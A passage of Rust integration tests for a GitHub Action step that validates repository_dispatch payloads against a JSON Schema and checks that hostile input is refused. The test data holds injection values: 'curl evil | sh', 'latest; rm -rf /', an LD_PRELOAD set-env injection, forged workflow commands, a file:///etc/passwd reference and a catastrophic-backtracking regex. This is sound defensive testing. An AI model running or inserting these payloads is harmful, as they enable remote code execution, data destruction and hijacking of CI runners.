//! `repository-dispatch receive` end to end through the built binary: events
//! shaped as GitHub delivers them (tests/fixtures/receive), the runner's
//! files, and what the step wrote to them, printed and exited with.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

/// A runner file (`GITHUB_OUTPUT`, `GITHUB_ENV`) read as the runner reads it.
fn records(text: &str) -> Vec<(String, String)> {
    common::parse_output_file(text)
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/receive")
        .join(name)
}

fn event(name: &str) -> Value {
    serde_json::from_str(&std::fs::read_to_string(fixture(name)).unwrap()).unwrap()
}

const SCHEMA: &str = "deploy.schema.json";

/// One step: a workspace holding the schema, the event file, the runner's
/// files.
struct Step {
    dir: tempfile::TempDir,
    env: Vec<(String, String)>,
}

/// What one run did.
#[derive(Debug)]
struct Ran {
    code: i32,
    stdout: String,
    stderr: String,
    outputs: String,
    env_file: String,
}

impl Ran {
    fn errors(&self) -> Vec<&str> {
        self.stdout
            .lines()
            .filter(|l| l.starts_with("::error"))
            .collect()
    }

    fn outputs(&self) -> Vec<(String, String)> {
        records(&self.outputs)
    }

    fn wrote_nothing(&self) -> bool {
        self.outputs.is_empty() && self.env_file.is_empty()
    }
}

impl Step {
    /// A step in Actions for `event_name` with the event `event`, the schema
    /// file in the workspace and `inputs` (`INPUT_*` names without the prefix).
    fn new(event_name: &str, event: &Value, inputs: &[(&str, &str)]) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let workspace = dir.path().join("workspace");
        std::fs::create_dir_all(workspace.join(".github")).unwrap();
        std::fs::copy(fixture(SCHEMA), workspace.join(".github").join(SCHEMA)).unwrap();
        std::fs::write(dir.path().join("event.json"), event.to_string()).unwrap();
        for file in ["set_output", "set_env", "step_summary"] {
            std::fs::write(dir.path().join(file), "").unwrap();
        }
        let p = |name: &str| dir.path().join(name).display().to_string();
        let mut env: Vec<(String, String)> = vec![
            ("GITHUB_ACTIONS".into(), "true".into()),
            ("CI".into(), "true".into()),
            ("GITHUB_EVENT_NAME".into(), event_name.into()),
            ("GITHUB_EVENT_PATH".into(), p("event.json")),
            ("GITHUB_WORKSPACE".into(), p("workspace")),
            ("GITHUB_OUTPUT".into(), p("set_output")),
            ("GITHUB_ENV".into(), p("set_env")),
            ("GITHUB_STEP_SUMMARY".into(), p("step_summary")),
            ("INPUT_SCHEMA-FILE".into(), format!(".github/{SCHEMA}")),
        ];
        for (k, v) in inputs {
            env.retain(|(n, _)| *n != format!("INPUT_{k}"));
            env.push((format!("INPUT_{k}"), (*v).to_owned()));
        }
        Self { dir, env }
    }

    fn dispatch(payload: &Value, inputs: &[(&str, &str)]) -> Self {
        let mut e = event("repository_dispatch.json");
        e["client_payload"] = payload.clone();
        Self::new("repository_dispatch", &e, inputs)
    }

    fn unset(mut self, name: &str) -> Self {
        self.env.retain(|(n, _)| n != name);
        self
    }

    fn run(&self, args: &[&str]) -> Ran {
        let out = Command::new(env!("CARGO_BIN_EXE_repository-dispatch"))
            .arg("receive")
            .args(args)
            .env_clear()
            .envs(self.env.iter().map(|(k, v)| (k, v)))
            .current_dir(self.dir.path())
            .output()
            .expect("the binary runs");
        let read =
            |name: &str| std::fs::read_to_string(self.dir.path().join(name)).unwrap_or_default();
        let ran = Ran {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
            outputs: read("set_output"),
            env_file: read("set_env"),
        };
        assert!(!ran.stderr.contains("panicked"), "{}", ran.stderr);
        // Only workflow commands and plain lines of the step's own: nothing
        // from the payload can start a line.
        for line in ran.stdout.lines() {
            assert!(
                line.starts_with("::error title=")
                    || line.starts_with("::warning::")
                    || !line.starts_with("::"),
                "unexpected command line: {line}"
            );
        }
        ran
    }
}

fn valid_payload() -> Value {
    json!({"image_tag": "sha-0123abc", "environment": "staging"})
}

/// A valid dispatch: exactly the declared properties the payload holds, then
/// `payload`; with env-prefix, exactly their variables.
#[test]
fn a_valid_dispatch_hands_out_exactly_its_declared_values() {
    let step = Step::dispatch(
        &json!({"image_tag": "sha-0123abc", "environment": "staging", "replicas": 3}),
        &[
            ("EVENT-TYPES", "build, trigger-deploy"),
            ("SENDERS", "octocat\nDispatch-Bot[bot]"),
            ("ENV-PREFIX", "DEPLOY_"),
        ],
    );
    let r = step.run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.errors().is_empty(), "{r:?}");
    assert_eq!(
        r.outputs(),
        [
            ("environment".to_owned(), "staging".to_owned()),
            ("image_tag".to_owned(), "sha-0123abc".to_owned()),
            ("replicas".to_owned(), "3".to_owned()),
            (
                "payload".to_owned(),
                r#"{"environment":"staging","image_tag":"sha-0123abc","replicas":3}"#.to_owned()
            ),
        ]
    );
    assert_eq!(
        records(&r.env_file),
        [
            ("DEPLOY_ENVIRONMENT".to_owned(), "staging".to_owned()),
            ("DEPLOY_IMAGE_TAG".to_owned(), "sha-0123abc".to_owned()),
            ("DEPLOY_REPLICAS".to_owned(), "3".to_owned()),
        ]
    );
    assert!(
        r.stdout
            .contains("client_payload is valid: outputs environment, image_tag, replicas, payload; environment DEPLOY_ENVIRONMENT, DEPLOY_IMAGE_TAG, DEPLOY_REPLICAS"),
        "{}",
        r.stdout
    );
    // The values are handed out, never printed.
    assert!(!r.stdout.contains("sha-0123abc"), "{}", r.stdout);

    // Whole numbers that arrived as floats read as integers.
    let r = Step::dispatch(
        &json!({"image_tag": "sha-0123abc", "environment": "staging", "replicas": 3.0}),
        &[],
    )
    .run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(
        r.outputs()
            .contains(&("replicas".to_owned(), "3".to_owned())),
        "{r:?}"
    );

    // A runner without GITHUB_OUTPUT, or without GITHUB_ENV when variables
    // are wanted: refused before the event is read, nothing half done.
    for (unset, extra) in [
        ("GITHUB_OUTPUT", None),
        ("GITHUB_ENV", Some(("ENV-PREFIX", "D_"))),
    ] {
        let step = Step::dispatch(&valid_payload(), extra.as_slice()).unset(unset);
        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
        let r = step.run(&[]);
        assert_eq!(r.code, 2, "{unset}: {r:?}");
        assert_eq!(r.errors().len(), 1, "{r:?}");
        assert!(
            r.errors()[0].starts_with(&format!("::error title={unset}::{unset} is not set")),
            "{r:?}"
        );
        assert!(r.wrote_nothing());
    }
}

/// A `workflow_dispatch`: its `inputs` are validated; event-types is for
/// `repository_dispatch` only; senders apply to both.
#[test]
fn a_workflow_dispatch_validates_its_inputs() {
    let step = Step::new(
        "workflow_dispatch",
        &event("workflow_dispatch.json"),
        &[("EVENT-TYPES", "trigger-deploy"), ("SENDERS", "octocat")],
    );
    let r = step.run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    let outputs = r.outputs();
    let names: Vec<&str> = outputs.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["dry_run", "environment", "image_tag", "payload"]);
    assert!(r.stdout.contains("inputs is valid"), "{}", r.stdout);

    let mut e = event("workflow_dispatch.json");
    e["inputs"]["environment"] = json!("qa");
    let r = Step::new("workflow_dispatch", &e, &[]).run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(
        r.errors(),
        [
            r#"::error title=Invalid inputs::inputs/environment: enum: expected one of "staging", "production", got "qa""#
        ]
    );
    assert!(r.wrote_nothing());
}

/// Each kind of violation: exit 1, the errors (pointer, rule, expected, the
/// value), and nothing written to the outputs or the environment.
#[test]
fn each_violation_is_named_and_nothing_is_written() {
    let inputs = [
        ("EVENT-TYPES", "trigger-deploy"),
        ("SENDERS", "dispatch-bot[bot]"),
        ("ENV-PREFIX", "DEPLOY_"),
    ];
    let cases: &[(&str, Value, &[&str])] = &[
        (
            "type",
            json!({"image_tag": "sha-0123abc", "environment": "staging", "replicas": "3"}),
            &[
                r#"::error title=Invalid client_payload::client_payload/replicas: type: expected integer, got string "3""#,
            ],
        ),
        (
            "minimum",
            json!({"image_tag": "sha-0123abc", "environment": "staging", "replicas": 0}),
            &[
                "::error title=Invalid client_payload::client_payload/replicas: minimum: expected at least 1, got 0",
            ],
        ),
        (
            "missing required",
            json!({"image_tag": "sha-0123abc"}),
            &[
                "::error title=Invalid client_payload::client_payload/environment: required: missing (the schema requires it)",
            ],
        ),
        (
            "extra property",
            json!({"image_tag": "sha-0123abc", "environment": "staging", "script": "curl evil | sh"}),
            &[
                "::error title=Invalid client_payload::client_payload/script: additionalProperties: not allowed (the schema does not declare this property)",
            ],
        ),
        (
            "enum",
            json!({"image_tag": "sha-0123abc", "environment": "prod"}),
            &[
                r#"::error title=Invalid client_payload::client_payload/environment: enum: expected one of "staging", "production", got "prod""#,
            ],
        ),
        (
            "pattern",
            json!({"image_tag": "latest; rm -rf /", "environment": "staging"}),
            &[
                r#"::error title=Invalid client_payload::client_payload/image_tag: pattern: expected a string matching ^sha-[0-9a-f]{7,40}$, got "latest; rm -rf /""#,
            ],
        ),
        (
            "not an object",
            json!(["sha-0123abc"]),
            &[
                "::error title=Invalid client_payload::client_payload: type: expected object, got array [\"sha-0123abc\"]",
                "::error title=Invalid payload::client_payload is an array, not an object: send a JSON object",
            ],
        ),
        (
            "several at once",
            json!({"image_tag": 7, "extra": true}),
            &[
                "::error title=Invalid client_payload::client_payload/environment: required: missing (the schema requires it)",
                "::error title=Invalid client_payload::client_payload/extra: additionalProperties: not allowed (the schema does not declare this property)",
                "::error title=Invalid client_payload::client_payload/image_tag: type: expected string, got number 7",
            ],
        ),
    ];
    for (name, payload, expected) in cases {
        let r = Step::dispatch(payload, &inputs).run(&[]);
        assert_eq!(r.code, 1, "{name}: {r:?}");
        let mut errors = r.errors();
        errors.sort_unstable();
        let mut expected = expected.to_vec();
        expected.sort_unstable();
        assert_eq!(errors, expected, "{name}");
        assert!(r.wrote_nothing(), "{name}: {r:?}");
        assert!(
            r.stdout
                .contains("nothing was written to the step's outputs or environment"),
            "{name}: {}",
            r.stdout
        );
    }
}

/// The event type, the sender and the event itself.
#[test]
fn the_event_type_the_sender_and_the_event_are_checked() {
    let mut wrong_type = event("repository_dispatch.json");
    wrong_type["action"] = json!("trigger-deploy\n::set-env name=X::y");
    let r = Step::new(
        "repository_dispatch",
        &wrong_type,
        &[("EVENT-TYPES", "trigger-deploy,rollback")],
    )
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(
        r.errors(),
        [
            r#"::error title=Event type not accepted::the event type "trigger-deploy\n::set-env name=X::y" is not one this step accepts (trigger-deploy, rollback): dispatch one of those, or add it to event-types"#
        ]
    );
    assert!(r.wrote_nothing());

    let r = Step::dispatch(
        &valid_payload(),
        &[("SENDERS", "octocat, release-bot[bot]")],
    )
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(
        r.errors(),
        [
            r#"::error title=Sender not accepted::the event was sent by "dispatch-bot[bot]", who is not among the senders this step accepts (octocat, release-bot[bot]): send it with a token of one of them, or add the login to senders"#
        ]
    );
    assert!(r.wrote_nothing());

    // Another event: this step is not for it, and the event file is not read.
    let step = Step::new("push", &json!({}), &[]);
    std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
    let r = step.run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(
        r.errors(),
        [
            r#"::error title=Not a dispatch::this step validates repository_dispatch and workflow_dispatch events, but this run was started by "push": run it only for those events (if: github.event_name == 'repository_dispatch')"#
        ]
    );
    assert!(r.wrote_nothing());
}

/// A schema that cannot be used: exit 2 before the event is read (it does not
/// even exist here), saying what and where.
#[test]
fn an_unusable_schema_stops_the_step_before_the_event_is_read() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "not JSON",
            r#"{"type": "object",}"#,
            "schema is not valid JSON: trailing comma at line 1, column 19 (near `{\"type\": \"object\",}`): JSON allows no trailing comma",
        ),
        (
            "not a schema",
            r#"{"type": "strin"}"#,
            "schema: not a valid JSON Schema: at #/type: ",
        ),
        (
            "look-ahead",
            r#"{"properties": {"tag": {"pattern": "^(?=sha-)[a-z0-9-]+$"}}}"#,
            r#"schema: the pattern "^(?=sha-)[a-z0-9-]+$" at #/properties/tag/pattern cannot run on a linear-time regex engine"#,
        ),
        (
            "back-reference",
            r#"{"properties": {"tag": {"pattern": "^(a+)\\1$"}}}"#,
            "cannot run on a linear-time regex engine",
        ),
        (
            "a remote $ref",
            r#"{"properties": {"tag": {"$ref": "https://example.com/tag.json"}}}"#,
            "https://example.com/tag.json",
        ),
        (
            "a file $ref",
            r#"{"properties": {"tag": {"$ref": "file:///etc/passwd"}}}"#,
            "file:///etc/passwd",
        ),
        ("an array", "[1]", "schema is JSON but not a schema"),
        (
            "an unknown draft",
            r#"{"$schema": "http://example.com/draft", "type": "object"}"#,
            "$schema http://example.com/draft is not a draft this step knows",
        ),
        (
            "a format this build cannot check",
            r#"{"properties": {"host": {"type": "string", "format": "idn-hostname"}}}"#,
            r#""format": "idn-hostname" at #/properties/host cannot be checked by this build"#,
        ),
        (
            "keywords a draft-07 $ref hides",
            r##"{"$schema": "http://json-schema.org/draft-07/schema#", "$ref": "#/definitions/x", "definitions": {"x": {"type": "object"}}, "properties": {"tag": {"pattern": "^[a-z]+$"}}, "required": ["tag"]}"##,
            "its draft ignores every keyword beside a $ref, so these would not be checked: properties, required at #: wrap the $ref and its keywords in allOf",
        ),
        (
            "a $ref loop",
            r##"{"$ref": "#/$defs/x", "$defs": {"x": {"$ref": "#/$defs/x"}}}"##,
            "a $ref refers to itself in a loop",
        ),
        (
            "a $ref to nothing",
            r##"{"properties": {"a": {"$ref": "#/$defs/missing"}}}"##,
            "json-pointer in #/$defs/missing not found",
        ),
        (
            "a $ref into a value that says format: regex",
            r##"{"properties": {"a": {"$ref": "#/properties/b/const"}, "b": {"const": {"format": "regex"}}}}"##,
            r##"the $ref "#/properties/b/const" may point into a value (const, enum, default or examples) that holds "format": "regex""##,
        ),
    ];
    for (name, schema, says) in cases {
        let step =
            Step::dispatch(&valid_payload(), &[("SCHEMA", schema)]).unset("INPUT_SCHEMA-FILE");
        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
        let r = step.run(&[]);
        assert_eq!(r.code, 2, "{name}: {r:?}");
        let errors = r.errors();
        assert_eq!(errors.len(), 1, "{name}: {errors:?}");
        assert!(
            errors[0].starts_with("::error title=Invalid schema::") && errors[0].contains(says),
            "{name}: {}",
            errors[0]
        );
        assert!(r.wrote_nothing(), "{name}");
    }
    // Both or neither of schema and schema-file.
    let r = Step::dispatch(&valid_payload(), &[("SCHEMA", "{}")]).run(&[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.errors()[0].contains("both schema and schema-file are set: give one of them"));
    let r = Step::dispatch(&valid_payload(), &[])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.errors()[0].contains("no schema: set schema"), "{r:?}");
    // A schema file that is not there.
    let r = Step::dispatch(&valid_payload(), &[("SCHEMA-FILE", "schemas/missing.json")]).run(&[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.errors()[0].contains("workspace/schemas/missing.json could not be read"),
        "{r:?}"
    );
}

/// Hostile values: no injected command, output or variable.
#[test]
fn hostile_values_inject_nothing() {
    let schema = r#"{"type": "object", "properties": {"note": {"type": "string"}, "tag": {"type": "string", "maxLength": 40}}}"#;
    // A value that is a line break, a runner command, a delimiter-like line
    // and a would-be record, in an output: it stays one value.
    let hostile = "line one\n::set-env name=LD_PRELOAD::/tmp/x.so\nEOF\nghadelimiter_0\nINJECTED<<EOF\nx\nEOF";
    let r = Step::dispatch(&json!({"note": hostile}), &[("SCHEMA", schema)])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        r.outputs(),
        [
            ("note".to_owned(), hostile.to_owned()),
            ("payload".to_owned(), json!({"note": hostile}).to_string()),
        ]
    );
    // The same value for the environment file: one variable, read back
    // whole as the runner reads the file, and no other record.
    let r = Step::dispatch(
        &json!({"note": hostile}),
        &[("SCHEMA", schema), ("ENV-PREFIX", "P_")],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        records(&r.env_file),
        [("P_NOTE".to_owned(), hostile.to_owned())]
    );
    assert_eq!(r.outputs().len(), 2, "{r:?}");
    let r = Step::dispatch(
        &json!({"note": "a\u{0}b"}),
        &[("SCHEMA", schema), ("ENV-PREFIX", "P_")],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.wrote_nothing());

    // A 60 KB value and a 60 KB property name: each error is cut short.
    let long = "x".repeat(60_000);
    let r = Step::dispatch(
        &json!({"tag": long, (long.clone() + "\n::error::forged"): 1}),
        &[(
            "SCHEMA",
            &schema.replace("}}}", "}}, \"additionalProperties\": false}"),
        )],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    let errors = r.errors();
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert!(errors.iter().all(|e| e.len() < 400), "{errors:?}");
    assert!(
        errors.iter().any(|e| e
            .contains("maxLength: expected at most 40 characters, got 60000: \"xxx")
            && e.contains("… (60002 characters)")),
        "{errors:?}"
    );
    assert!(!r.stdout.contains("\n::error::forged"), "{}", r.stdout);
    assert!(errors.iter().all(|e| !e.contains("%0A")), "{errors:?}");
    assert!(r.wrote_nothing());
    // A name from the payload shows its line break as an escape, not as a
    // line of the message.
    let r = Step::dispatch(
        &json!({"a\n::error::forged": 1}),
        &[(
            "SCHEMA",
            &schema.replace("}}}", "}}, \"additionalProperties\": false}"),
        )],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(
        r.errors(),
        [
            "::error title=Invalid client_payload::client_payload/a\\n::error::forged: additionalProperties: not allowed (the schema does not declare this property)"
        ]
    );

    // Nesting deeper than the JSON reader's limit: refused, nothing written.
    let mut deep = json!("bottom");
    for _ in 0..200 {
        deep = json!([deep]);
    }
    let r = Step::dispatch(&json!({"note": deep}), &[("SCHEMA", schema)])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    let errors = r.errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(
        errors[0].starts_with("::error title=Event unreadable::the event file is not JSON that can be read (recursion limit exceeded"),
        "{}",
        errors[0]
    );
    assert!(r.wrote_nothing());
}

/// An exponential-backtracking pattern for backtracking engines, on an
/// adversarial value: the linear-time engine answers (the time is bounded by
/// the benchmark, bench/receive.sh; here only the answer is checked).
#[test]
fn a_backtracking_pattern_is_answered() {
    let schema = r#"{"properties": {"tag": {"type": "string", "pattern": "^(a+)+$"}}}"#;
    let value = format!("{}!", "a".repeat(10_000));
    let r = Step::dispatch(&json!({"tag": value}), &[("SCHEMA", schema)])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.errors()[0].contains("tag: pattern: expected a string matching ^(a+)+$"));
}

/// Names: env-prefix and the properties it makes variables of.
#[test]
fn unsafe_variable_names_are_refused() {
    let cases: &[(&str, &str)] = &[
        ("LD_", "env-prefix LD_ would set LD_* variables"),
        ("GITHUB_", "env-prefix GITHUB_ would set GITHUB_* variables"),
        (
            "deploy_",
            "is not a variable prefix: use upper-case letters",
        ),
        ("DEPLOY-", "is not a variable prefix"),
        ("DEPLOY", "ending with _, such as DEPLOY_"),
        ("LUA_", "env-prefix LUA_ would set LUA_* variables"),
        ("CARGO_", "env-prefix CARGO_ would set CARGO_* variables"),
    ];
    for (prefix, says) in cases {
        let r = Step::dispatch(&valid_payload(), &[("ENV-PREFIX", prefix)]).run(&[]);
        assert_eq!(r.code, 2, "{prefix}: {r:?}");
        assert!(r.errors()[0].contains(says), "{prefix}: {:?}", r.errors());
        assert!(r.wrote_nothing());
    }
    let r = Step::dispatch(
        &json!({"command": "id"}),
        &[
            ("SCHEMA", r#"{"properties": {"command": {}}}"#),
            ("ENV-PREFIX", "PROMPT_"),
        ],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.errors()[0].contains("the property \"command\" would be exported as PROMPT_COMMAND"),
        "{:?}",
        r.errors()
    );
    // Output names the runner would not tell apart.
    let r = Step::dispatch(
        &json!({"tag": "abc"}),
        &[(
            "SCHEMA",
            r#"{"properties": {"tag": {"pattern": "^[a-z]+$"}, "TAG": {}}}"#,
        )],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.errors()[0].contains("differ only in case"),
        "{:?}",
        r.errors()
    );
}

/// From a shell: flags, the event from a file, the payload on stdout for jq,
/// and help for a typo.
#[test]
fn the_command_line_validates_a_saved_event() {
    let step = Step::dispatch(&valid_payload(), &[]);
    let event_file = step.dir.path().join("event.json").display().to_string();
    let schema_file = fixture(SCHEMA).display().to_string();
    let shell = Step {
        dir: tempfile::tempdir().unwrap(),
        env: vec![("PATH".into(), "/usr/bin:/bin".into())],
    };
    let r = shell.run(&[
        "--schema-file",
        &schema_file,
        "--event",
        &event_file,
        "--event-name=repository_dispatch",
        "--senders",
        "dispatch-bot[bot]",
    ]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        r.stdout,
        "{\"environment\":\"staging\",\"image_tag\":\"sha-0123abc\"}\n"
    );
    assert!(r.stderr.contains("client_payload is valid"), "{}", r.stderr);

    // Characters a terminal could act on arrive as \u escapes: the same
    // value for jq, nothing for the terminal.
    let tricky = json!({"note": "a\u{2028}b\u{85}c\u{202e}d##[e\u{1f600}"});
    let saved = Step::dispatch(&tricky, &[]);
    let tricky_file = saved.dir.path().join("event.json").display().to_string();
    let r = shell.run(&[
        "--schema",
        r#"{"properties": {"note": {"type": "string"}}}"#,
        "--event",
        &tricky_file,
        "--event-name",
        "repository_dispatch",
    ]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        r.stdout,
        "{\"note\":\"a\\u2028b\\u0085c\\u202ed##[e\\ud83d\\ude00\"}\n"
    );
    assert_eq!(serde_json::from_str::<Value>(&r.stdout).unwrap(), tricky);

    // Another event is refused by its name alone, with no event file.
    let r = shell.run(&["--schema", "{}", "--event-name", "push"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("started by \"push\""), "{}", r.stderr);

    let r = shell.run(&["--schemafile", &schema_file]);
    assert_eq!(r.code, 2, "{r:?}");
    assert_eq!(
        r.stderr,
        "error: receive has no option --schemafile: did you mean --schema-file?\n"
    );
    // An argument that could be a secret is never echoed.
    let secret = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB";
    let r = shell.run(&[secret]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(!r.stderr.contains("ghp_0123"), "{}", r.stderr);
    assert!(
        r.stderr.starts_with("error: receive has no option "),
        "{}",
        r.stderr
    );
    let r = shell.run(&["--schema-file", &schema_file]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.stderr.contains("GITHUB_EVENT_NAME is not set"),
        "{}",
        r.stderr
    );
    let r = shell.run(&["--help"]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(
        r.stdout.starts_with("Usage: repository-dispatch receive"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("--env-prefix PREFIX"), "{}", r.stdout);
}

/// receive reads its inputs as the sending flow does: both spellings of an
/// `INPUT_*` name, an input the runner passes empty is not given, and (the
/// one change from its own reader of before) an empty flag value is refused
/// rather than ignored.
#[test]
fn inputs_and_flags_are_read_as_the_sender_reads_them() {
    let payload = valid_payload();
    // The underscore spelling, and the runner's empty INPUT_* of an input
    // that is not set (none of receive's has a default).
    let r = Step::dispatch(
        &payload,
        &[
            ("SCHEMA_FILE", &format!(".github/{SCHEMA}")),
            ("SENDERS", ""),
        ],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    // An empty flag value: refused before the event is read, whether the
    // value is attached or the next argument.
    for args in [
        &["--schema-file", ""][..],
        &["--schema-file="],
        &["--senders", "  "],
        &["--env-prefix="],
    ] {
        let r = Step::dispatch(&payload, &[]).run(args);
        assert_eq!(r.code, 2, "{args:?}: {r:?}");
        assert!(r.wrote_nothing(), "{args:?}: {r:?}");
        let long = args[0].trim_end_matches('=');
        assert_eq!(
            r.errors(),
            [format!(
                "::error title=Invalid option%3A {long}::{long} is empty: give {}, or leave the option out; an unset or empty shell variable, as in {long} \"$VALUE\", also gives this",
                match long {
                    "--schema-file" => "PATH",
                    "--senders" => "LIST",
                    _ => "PREFIX",
                }
            )],
            "{args:?}"
        );
    }
}

/// A pattern is shown as the schema writes it, not as translated for the
/// regex engine (`\d` would read `[0-9]`), also through a `$ref`.
#[test]
fn patterns_are_shown_as_written() {
    let schema = r##"{"$defs": {"word": {"pattern": "^\\w+$"}}, "properties": {"n": {"type": "string", "pattern": "^\\d+$"}, "w": {"$ref": "#/$defs/word"}}}"##;
    let r = Step::dispatch(&json!({"n": "x1", "w": "a b"}), &[("SCHEMA", schema)])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    let mut errors = r.errors();
    errors.sort_unstable();
    assert_eq!(
        errors,
        [
            r#"::error title=Invalid client_payload::client_payload/n: pattern: expected a string matching ^\d+$, got "x1""#,
            r#"::error title=Invalid client_payload::client_payload/w: pattern: expected a string matching ^\w+$, got "a b""#,
        ]
    );
}

/// A `format` no checker knows (a typo) checks nothing: said, and the step
/// goes on.
#[test]
fn an_unknown_format_is_warned_of() {
    let schema = r#"{"properties": {"host": {"type": "string", "format": "hostnmae"}}}"#;
    let r = Step::dispatch(&json!({"host": "not a host name"}), &[("SCHEMA", schema)])
        .unset("INPUT_SCHEMA-FILE")
        .run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    let warnings: Vec<&str> = r
        .stdout
        .lines()
        .filter(|l| l.starts_with("::warning::"))
        .collect();
    assert_eq!(warnings.len(), 1, "{}", r.stdout);
    assert!(
        warnings[0].starts_with(
            "::warning::\"format\": \"hostnmae\" at #/properties/host is not a format this step knows, so it checks nothing: use one of regex, ipv4"
        ),
        "{}",
        warnings[0]
    );
    // A known one checks.
    let r = Step::dispatch(
        &json!({"host": "not a host name"}),
        &[("SCHEMA", &schema.replace("hostnmae", "hostname"))],
    )
    .unset("INPUT_SCHEMA-FILE")
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(!r.stdout.contains("::warning::"), "{}", r.stdout);
    assert!(
        r.errors()[0].contains("client_payload/host: format: expected a valid hostname"),
        "{:?}",
        r.errors()
    );
}

/// A step given only `schema` (no schema file).
fn inline(payload: &Value, schema: &str, inputs: &[(&str, &str)]) -> Step {
    let mut all = vec![("SCHEMA", schema)];
    all.extend_from_slice(inputs);
    Step::dispatch(payload, &all).unset("INPUT_SCHEMA-FILE")
}

/// `format: "regex"` on long runs of the escapes boon rewrites one at a time
/// (`\s`, `\d`, `\w`, `\cX`): judged, and rightly, in linear time. Before,
/// `\s` × 21,000 kept the step busy about ten minutes; no clock is read here,
/// the test harness's own time-out is the failure.
#[test]
fn format_regex_judges_long_runs_of_escapes() {
    let schema = r##"{"$defs": {"re": {"type": "string", "format": "regex"}}, "properties": {"re": {"type": "string", "format": "regex"}, "nested": {"type": "array", "items": {"$ref": "#/$defs/re"}}}}"##;
    let cases: &[(&str, String, i32)] = &[
        ("\\s × 21,000", r"\s".repeat(21_000), 0),
        ("\\d × 30,000", r"\d".repeat(30_000), 0),
        (
            "\\w × 20,000 in a class",
            format!("[{}]", r"\w".repeat(20_000)),
            0,
        ),
        ("\\cA × 20,000", r"\cA".repeat(20_000), 0),
        (
            "\\s × 20,000 then a look-ahead",
            format!("{}(?=x)", r"\s".repeat(20_000)),
            1,
        ),
        (
            "\\d × 20,000 then \\a",
            format!("{}\\a", r"\d".repeat(20_000)),
            1,
        ),
    ];
    for (name, value, code) in cases {
        for payload in [json!({"re": value}), json!({"nested": [value]})] {
            let r = inline(&payload, schema, &[]).run(&[]);
            assert_eq!(r.code, *code, "{name}: {:?}", r.errors());
            if *code == 0 {
                assert!(r.errors().is_empty(), "{name}: {r:?}");
                assert_eq!(
                    r.outputs().last(),
                    Some(&("payload".to_owned(), payload.to_string())),
                    "{name}"
                );
            } else {
                let at = if payload.get("re").is_some() {
                    "re"
                } else {
                    "nested/0"
                };
                let errors = r.errors();
                assert_eq!(errors.len(), 1, "{name}: {errors:?}");
                assert!(
                    errors[0].starts_with(&format!(
                        "::error title=Invalid client_payload::client_payload/{at}: format: expected a valid regex, got \""
                    )),
                    "{name}: {}",
                    errors[0]
                );
                assert!(r.wrote_nothing(), "{name}");
            }
        }
    }
}

/// `"format": "regex"` is this step's check only where it is a schema's: a
/// value that happens to say it (a `const`) is compared as written.
#[test]
fn format_regex_in_a_value_is_data() {
    let schema = r#"{"properties": {"c": {"const": {"format": "regex"}}, "e": {"enum": [{"format": "regex", "x": 1}]}}}"#;
    let payload = json!({"c": {"format": "regex"}, "e": {"format": "regex", "x": 1}});
    let r = inline(&payload, schema, &[]).run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    let r = inline(&json!({"c": {"format": "x"}}), schema, &[]).run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.errors()[0].contains("client_payload/c: const: expected {\"format\":\"regex\"}"),
        "{:?}",
